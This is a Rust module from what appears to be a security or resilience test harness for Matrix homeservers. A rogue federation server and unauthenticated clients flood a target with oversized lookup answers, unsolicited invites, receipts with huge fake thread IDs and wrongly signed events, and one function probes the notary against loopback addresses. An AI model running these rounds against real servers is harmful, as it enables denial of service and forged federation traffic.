//! What a lying server, and strangers who name it, do to an honest one: T124, T127, T128, T136. One function is one round;
//! [`ByServer`] repeats a round until it is told to stop.

use anyhow::{Context as _, Result};
use axum::{http::header, response::IntoResponse as _};
use futures_util::future::{BoxFuture, join_all};
use reqwest::Method;
use ruma::RoomVersionId;
use serde_json::{Value, json};

use super::{Attack, Course, Figures, Target};
use crate::{
    client::segment,
    liar::{Liar, Room},
    server::Server,
};

/// What is repeated.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Round {
    /// T124: strangers ask for profiles, aliases and directories of the liar, which answers at length.
    Lookups,
    /// T127: invitations that nobody asked for.
    Invitations,
    /// T128: receipts in made-up threads.
    Receipts,
    /// T136: events with wrong signatures.
    BadEvents,
}

/// An attack by a server, and by strangers who name it.
pub struct ByServer<'a> {
    /// What it does.
    pub round: Round,
    /// Who is attacked; the liar finds it by its name.
    pub server: &'a Server,
    /// Who attacks.
    pub liar: &'a Liar,
    /// For strangers.
    pub http: reqwest::Client,
    /// A user of the server, to be invited.
    pub victim: String,
    /// A room of the server in which a user of the liar is, and that user.
    pub room: (Room, String),
}

impl ByServer<'_> {
    async fn one(&self) -> Result<usize> {
        let (room, mallory) = &self.room;
        match self.round {
            Round::Lookups => {
                answer_at_length(self.liar, 60 << 20);
                let asked = strangers_ask(self.server, &self.http, self.liar.name().as_str(), 24).await?;
                Ok(asked.len())
            }
            Round::Invitations => Ok(invite(self.server, self.liar, &self.victim, 20, 200_000).await?.len()),
            Round::Receipts => {
                receipts(self.server, self.liar, room, mallory, 200).await?;
                Ok(200)
            }
            Round::BadEvents => {
                bad_events(self.server, self.liar, room, mallory, 4).await?;
                Ok(200)
            }
        }
    }
}

impl Attack for ByServer<'_> {
    fn name(&self) -> &'static str {
        match self.round {
            Round::Lookups => "T124 lookups for strangers",
            Round::Invitations => "T127 unasked invitations",
            Round::Receipts => "T128 receipts in made-up threads",
            Round::BadEvents => "T136 bad events",
        }
    }

    fn run<'a>(&'a self, _target: &'a Target, course: Course) -> BoxFuture<'a, Result<Figures>> {
        Box::pin(async move {
            let mut figures = Figures::default();
            while !*course.stop.borrow() {
                figures.tried += self.one().await?;
                course.held.send_replace(true);
            }
            Ok(figures)
        })
    }
}

/// Requests of a round that are under way at a time.
const AT_ONCE: usize = 32;

/// T124: makes the liar answer questions with this many bytes.
pub fn answer_at_length(liar: &Liar, bytes: usize) {
    for path in [
        "/_matrix/federation/v1/query/profile",
        "/_matrix/federation/v1/query/directory",
        "/_matrix/federation/v1/publicRooms",
    ] {
        liar.answers(path, move |_| {
            let body = format!(r#"{{"displayname":"{}","chunk":[]}}"#, "x".repeat(bytes));
            ([(header::CONTENT_TYPE, "application/json")], body).into_response()
        });
    }
}

/// T124: strangers ask for profiles, aliases and directories of another server. Gives the statuses of the answers.
///
/// # Errors
/// When the target can't be reached.
pub async fn strangers_ask(target: &Server, http: &reqwest::Client, other: &str, times: usize) -> Result<Vec<u16>> {
    let paths = [
        format!("/_matrix/client/v3/profile/{}", segment(&format!("@x:{other}"))),
        format!("/_matrix/client/v3/directory/room/{}", segment(&format!("#x:{other}"))),
        format!("/_matrix/client/v3/publicRooms?server={}", segment(other)),
    ];
    let mut statuses = Vec::with_capacity(times);
    let mut next = paths.iter().cycle();
    while statuses.len() < times {
        let mut running = Vec::new();
        for path in next.by_ref().take(AT_ONCE.min(times - statuses.len())) {
            running.push(status_of(http.get(format!("{}{path}", target.url))));
        }
        for status in join_all(running).await {
            statuses.push(status?);
        }
    }
    Ok(statuses)
}

async fn status_of(request: reqwest::RequestBuilder) -> Result<u16> {
    let answer = request.send().await?;
    let status = answer.status().as_u16();
    answer.bytes().await?;
    Ok(status)
}

/// T124: a stranger asks a notary for the keys of servers that are not there, `servers` at these ports of loopback.
///
/// # Errors
/// When the target can't be reached.
pub async fn query_keys(target: &Server, http: &reqwest::Client, ports: &[u16]) -> Result<Value> {
    let servers: serde_json::Map<String, Value> = ports
        .iter()
        .map(|port| (format!("127.0.0.1:{port}"), json!({})))
        .collect();
    let answer = http
        .post(format!("{}/_matrix/key/v2/query", target.url))
        .json(&json!({ "server_keys": servers }))
        .send()
        .await?;
    answer.json().await.context("a key query is answered with JSON")
}

/// T127: invites a user to as many rooms, each with stripped state of this size. Gives the statuses of the answers.
///
/// # Errors
/// When the target can't be reached.
pub async fn invite(target: &Server, liar: &Liar, victim: &str, rooms: usize, bytes: usize) -> Result<Vec<u16>> {
    let mut statuses = Vec::with_capacity(rooms);
    for _ in 0..rooms {
        let mallory = liar.user("mallory");
        let mut room = Room::create(liar, &RoomVersionId::V12, &mallory)?;
        let content = json!({ "membership": "invite" });
        let id = room.send(liar, &mallory, "m.room.member", Some(victim), content)?;
        let event = room.events.get(&id).cloned().context("the invitation")?;
        let mut stripped = room.state_events();
        stripped.retain(|event| event.get("type") == Some(&json!("m.room.create")));
        let entry = json!({ "type": "m.room.topic", "state_key": "", "sender": mallory, "content": { "topic": "x".repeat(bytes) } });
        stripped.push(entry);
        let body = json!({ "room_version": "12", "event": event, "invite_room_state": stripped });
        let path = format!("/_matrix/federation/v2/invite/{}/{}", segment(&room.id), segment(&id));
        let answer = liar.ask(target, Method::PUT, &path, Some(&body)).await?;
        statuses.push(answer.status.as_u16());
    }
    Ok(statuses)
}

/// T128: read receipts of a member in threads that nobody began, each in an EDU of nearly the largest size.
///
/// # Errors
/// When the target can't be reached.
pub async fn receipts(target: &Server, liar: &Liar, room: &Room, user: &str, edus: usize) -> Result<()> {
    let read = room.heads.first().context("a room has events")?;
    let edu = |number: usize| {
        let thread = if number.is_multiple_of(2) {
            format!("{number}{}", "x".repeat(60_000))
        } else {
            format!("${number:0>43}")
        };
        let receipt = json!({ "event_ids": [read], "data": { "ts": number, "thread_id": thread } });
        json!({ "edu_type": "m.receipt", "content": { room.id.as_str(): { "m.read": { user: receipt } } } })
    };
    let all: Vec<Value> = (0..edus).map(edu).collect();
    for some in all.chunks(100) {
        liar.transaction(target, &[], some).await?;
    }
    Ok(())
}

/// T136: transactions of events whose signature is wrong.
///
/// # Errors
/// When the target can't be reached.
pub async fn bad_events(target: &Server, liar: &Liar, room: &Room, user: &str, transactions: usize) -> Result<()> {
    for number in 0..transactions {
        let forged: Result<Vec<Value>> = (0..50)
            .map(|at| {
                let content = json!({ "msgtype": "m.text", "body": format!("{number} {at}") });
                let mut event = room.event(liar, user, "m.room.message", None, content)?;
                if let Some(time) = event.get_mut("origin_server_ts") {
                    *time = json!(at);
                }
                Ok(event)
            })
            .collect();
        liar.transaction(target, &forged?, &[]).await?;
    }
    Ok(())
}
